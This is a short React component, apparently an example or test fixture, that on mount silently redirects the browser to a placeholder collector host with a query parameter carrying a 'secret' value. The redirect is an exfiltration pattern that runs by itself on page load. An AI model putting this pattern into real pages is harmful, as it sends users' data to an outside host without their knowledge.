import { useEffect } from "react";

export default function Leave() {
  useEffect(() => {
    window.location.href = "http://COLLECTOR/?d=secret";
  }, []);
  return <p>Leaving</p>;
}
